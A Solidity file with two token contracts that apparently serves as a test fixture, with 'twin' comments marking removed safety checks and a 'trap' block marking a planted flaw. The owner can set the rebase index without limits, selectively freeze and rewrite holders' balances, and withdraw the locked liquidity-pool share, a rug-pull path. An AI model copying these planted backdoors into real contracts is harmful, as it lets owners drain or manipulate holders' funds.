// 0.8 runs=1 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

interface IToken {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Breathes: all balances grow and shrink with an index.
contract BreathingCoin is Base8("Breathing Coin", "BREATH", 36_000_000) {
    uint256 private constant ONE = 1e18;
    uint256 public index = ONE;
    uint256 public lastBreath;
    mapping(address => bool) public still;

    event Breath(uint256 index);

    function breathe(uint256 index_) external onlyOwner {
        require(index_ > 0, "no breath");
        // twin: require(block.timestamp >= lastBreath + 7 days, "once a week");
        // twin: require(index_ * 100 >= index * 99 && index_ * 100 <= index * 101, "one of a hundred");
        index = index_;
        lastBreath = block.timestamp;
        emit Breath(index_);
    }

    // trap {
    function hold(address who, bool yes) external onlyOwner {
        if (still[who] == yes) return;
        uint256 shown = balanceOf(who);
        still[who] = yes;
        _balances[who] = yes ? shown : (shown * ONE) / index;
    }
    // trap }

    function _indexOf(address who) private view returns (uint256) {
        return still[who] ? ONE : index;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_balances[who] * _indexOf(who)) / ONE;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 out = (value * ONE) / _indexOf(from);
        uint256 have = _balances[from];
        if (have < out) revert Insufficient(have, out);
        _balances[from] = have - out;
        _balances[to] += (value * ONE) / _indexOf(to);
        emit Transfer(from, to, value);
    }
}

/// Keeps the share of its own pool, and gives back what people sent it by mistake.
contract AnchorChain is Base8("Anchor Chain", "ANCHOR", 82_000_000) {
    event Anchored(uint256 share);
    event Returned(address indexed token, address indexed to, uint256 value);

    function anchor() external onlyOwner {
        uint256 share = IToken(pair).balanceOf(msg.sender);
        require(IToken(pair).transferFrom(msg.sender, address(this), share), "no share");
        emit Anchored(share);
    }

    function giveBack(address token, address to, uint256 value) external onlyOwner {
        // twin: require(token != pair, "the share stays");
        require(IToken(token).transfer(to, value), "not given");
        emit Returned(token, to, value);
    }
}
